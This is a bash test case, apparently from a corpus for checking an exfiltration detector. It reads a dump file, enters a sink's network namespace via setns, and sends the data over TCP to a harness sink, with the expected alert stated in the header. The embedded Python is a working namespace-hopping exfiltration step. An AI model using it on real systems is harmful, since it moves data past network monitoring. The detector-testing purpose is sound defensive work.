#!/bin/bash
# B-setns: a process reads the dump, then enters the sink zone's network namespace and sends there.
# flow: setns between read and connect; what it holds it has from where it was.
# tools: python3
# expect: sent encoded any-port critical
# set: fast
. "$CORPUS/lib.sh"
mkdump
sink tcp
python3 -c 'import ctypes, os, socket, sys
dump = open(sys.argv[1], "rb").read()
namespace = os.open(os.environ["CORPUS_SINK"], os.O_RDONLY)
assert ctypes.CDLL(None).setns(namespace, 0x40000000) == 0
socket.create_connection((sys.argv[2], int(sys.argv[3]))).sendall(dump)' "$D" "$SINK" "$PORT"
sunk
